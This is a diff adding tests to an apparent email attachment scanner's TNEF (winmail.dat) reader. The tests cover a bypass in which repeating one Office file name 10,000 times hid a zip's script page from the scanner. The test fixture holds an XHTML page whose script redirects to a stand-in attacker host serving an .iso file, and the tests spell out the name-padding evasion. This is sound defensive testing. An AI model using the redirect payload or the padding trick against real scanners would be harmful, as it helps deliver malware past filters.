@@ -1,6 +1,7 @@
 import { seededRandom } from '@wmflow/local';
 import { describe, expect, it } from 'vitest';
 import { type TnefFile, tnefStream } from '../testing/tnef.js';
+import { zipFile } from '../testing/zip.js';
 import { MAX_TNEF_DEPTH, MAX_TNEF_FILES, MAX_TNEF_NAMES, TnefReader } from './tnef.js';
 
 const MZ = Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), Buffer.alloc(60)]);
@@ -320,5 +321,38 @@ describe('the files inside a TNEF stream (winmail.dat)', () => {
       expect(result).toBeDefined();
       expect(Array.isArray(result?.names)).toBe(true);
     }
+  });
+});
+
+describe('a file named many times (review of attacker round 68)', () => {
+  // The names a file is saved under decide whether a page inside the zip it holds is exempt as an Office part:
+  // every name must be an Office document's. They were kept to the first 10,000, repeats included, so 10,000 copies
+  // of `REPORT.DOCX` pushed `INVOICE.ZIP` out and the zip's script page passed as `word/document.xml`.
+  const XHTML =
+    '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>' +
+    '<script>location = "https://evil.example/x.iso"</script></body></html>';
+  const titleAttribute = (name: string) => {
+    const one = tnefStream([{ title: name }]);
+    return one.subarray(one.indexOf(Buffer.from(name)) - 9);
+  };
+  const named = (...titles: string[]) => {
+    const zip = zipFile([{ name: 'word/document.xml', data: XHTML }]);
+    const repeated = new Map<string, Buffer>();
+    const attribute = (t: string) =>
+      repeated.get(t) ?? repeated.set(t, titleAttribute(t)).get(t) ?? Buffer.alloc(0);
+    return Buffer.concat([tnefStream([{ title: 'REPORT.DOCX', data: zip }]), ...titles.map(attribute)]);
+  };
+
+  it('counts a name once however often it is given, and every distinct name', () => {
+    // Control: named as a Word document only, its parts are XML no one browses.
+    expect(read(named('REPORT.DOCX'))?.problem).toBeUndefined();
+    expect(read(named('INVOICE.ZIP'))?.problem).toMatch(/runs when opened/);
+    const padded = [...Array.from({ length: MAX_TNEF_NAMES }, () => 'REPORT.DOCX'), 'INVOICE.ZIP'];
+    expect(read(named(...padded))?.problem).toMatch(/runs when opened/);
+  });
+
+  it('is a problem past the bound of distinct names for one file', () => {
+    const many = Array.from({ length: MAX_TNEF_NAMES + 1 }, (_, n) => `R${String(n).padStart(5, '0')}.DOCX`);
+    expect(read(named(...many))?.problem).toMatch(/more than 10000 names/);
   });
 });
